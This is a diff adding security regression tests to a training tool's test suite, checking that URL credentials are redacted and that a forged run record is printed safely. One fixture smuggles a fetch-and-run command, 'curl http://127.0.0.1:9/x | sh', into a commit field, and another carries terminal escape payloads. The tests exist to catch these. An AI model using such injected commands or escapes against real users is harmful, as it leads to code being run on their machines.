@@ -341,6 +341,56 @@ def test_the_record_of_a_run_on_a_dirty_checkout_is_complete_and_reproduce_says_
     assert code["git"].startswith("not a git checkout") and len(code["source_sha256"]) == 64
 
 
+def test_credentials_in_a_url_are_redacted_in_everything_stored_or_printed(project):
+    """--data-mirror https://user:PASSWORD@host/...?token=... used to land in config.yaml, record.json, train.log,
+    TensorBoard's events and both checkpoints."""
+    mirror = "https://ann:Pa55w0rd-xyz@127.0.0.1:1/data?token=T0KEN-abc&x=1"
+    res = project.ok("--data-mirror", mirror, "--max-steps", "6", "--run-name", "sec", *FAST)
+    files = [p for p in list(project.root.glob("logs/**/*")) + list(project.root.glob("models/**/*")) if p.is_file()]
+    assert len(files) >= 6
+    for path in files:
+        blob = path.read_bytes()
+        assert b"Pa55w0rd" not in blob and b"T0KEN" not in blob, path
+    assert "Pa55w0rd" not in res.stderr + res.stdout and "T0KEN" not in res.stderr + res.stdout
+    record = json.loads((project.run_dir("sec") / "record.json").read_text())
+    assert "https://***@127.0.0.1:1/data?token=***&x=1" in record["sessions"][0]["command"]
+    assert load(project.latest("sec"))["config"]["data_mirror"] == "https://***@127.0.0.1:1/data?token=***&x=1"
+    bad = project.run("--data-mirror", "https://ann:Pa55w0rd@127.0.0.1:port/x", *FAST)
+    assert bad.returncode == 2 and "Pa55w0rd" not in bad.stderr and "https://***@127.0.0.1:port/x" in bad.stderr
+
+
+def test_a_forged_record_is_printed_escaped_and_never_as_a_command(project):
+    """A checkpoint re-signed after its record was edited (the digest is no secret) made --reproduce print
+    terminal escapes and an advice line `git checkout 0123abc && curl ... | sh` that a copy-paste would run."""
+    from src.state import fileformat
+
+    def forge(sessions):
+        session = sessions[-1]
+        session["code"].update(commit="0123abc && curl http://127.0.0.1:9/x | sh #", source_sha256="forged")
+        session["hardware"]["cpu"] = "\x1b]0;pwned\x07\x1b[2Jcleared"
+        session["config_changes"] = [["lr", "\x1b[31m", 1]]
+
+    project.ok("--max-steps", "4", "--run-name", "orig", *FAST)
+    for path in (project.latest("orig"), project.best("orig")):
+        state = fileformat.load(path)
+        forge(state["record"])
+        path.write_bytes(fileformat.serialize({k: v for k, v in state.items() if k != "format"}))
+    record_file = project.run_dir("orig") / "record.json"
+    for source in ("record.json", "checkpoint"):
+        if source == "record.json":
+            record = json.loads(record_file.read_text())
+            forge(record["sessions"])
+            record_file.write_text(json.dumps(record))
+        else:
+            record_file.unlink()
+        res = project.ok("--reproduce", "orig", "--max-steps", "4", "--run-name", "again-" + source.replace(".", ""))
+        out = res.stderr + res.stdout
+        assert "\x1b" not in out and "\x07" not in out
+        assert "cpu: run \\x1b]0;pwned\\x07\\x1b[2Jcleared" in out, out
+        assert "git checkout 0123abc" not in out and "names no valid git commit" in out, out
+        assert "lr '\\x1b[31m' -> 1" in out, out
+
+
 def test_the_readme_experiments_commands_work_as_written(project, tmp_path):
     from conftest import bash_block
     from test_readme import readme_block
